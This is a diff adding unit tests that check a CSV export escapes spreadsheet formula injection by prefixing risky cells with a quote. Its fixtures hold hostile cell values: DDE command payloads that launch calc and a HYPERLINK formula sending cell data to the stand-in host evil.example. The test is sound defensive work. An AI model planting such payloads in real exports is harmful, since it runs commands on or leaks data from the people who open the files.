@@ -45,6 +45,46 @@ describe('the evidence CSV', () => {
   });
 });
 
+describe('the evidence CSV opened in a spreadsheet', () => {
+  // why: OWASP "CSV Injection": a cell starting with = + - @, a tab or a carriage return is run as a formula.
+  const hostile = {
+    ...evidence,
+    data: {
+      ...evidence.data,
+      title: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      cohort: '+1+2',
+      caveat: '\t=1+1',
+      dateLabel: '\r=2+2',
+      figures: [
+        { value: '-12', label: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', key: true },
+        { value: '-40%', label: '-2+3', key: false },
+        { value: '=1+1', label: 'A fall of -5 points', key: false },
+      ],
+      source: { ...evidence.data.source, name: '=cmd|\' /C calc\'!A0' },
+    },
+  };
+  const rows: Record<string, string>[] = parse(evidenceCsv([evidenceApiItem(hostile)]), { bom: true, columns: true });
+
+  it('puts a single quote before every cell a spreadsheet would run as a formula', () => {
+    expect(rows[0]).toMatchObject({
+      figure: '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+      set_title: '\'@SUM(1+1)*cmd|\' /C calc\'!A0',
+      cohort: '\'+1+2',
+      caveat: '\'\t=1+1',
+      date_label: '\'\r=2+2',
+      source_name: '\'=cmd|\' /C calc\'!A0',
+    });
+    expect(rows[1]).toMatchObject({ figure: '\'-2+3' });
+    expect(rows[2]).toMatchObject({ value: '\'=1+1', figure: 'A fall of -5 points' });
+    const live = rows.flatMap((row) => Object.entries(row)).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+%?$/.test(cell));
+    expect(live).toEqual([]);
+  });
+
+  it('keeps real negative numbers as numbers', () => {
+    expect(rows.map((row) => row.value)).toEqual(['-12', '-40%', '\'=1+1']);
+  });
+});
+
 describe('API item builders', () => {
   it('evidence: matches the published shape, with null for what is not given', () => {
     const item = evidenceApiItem(evidence);
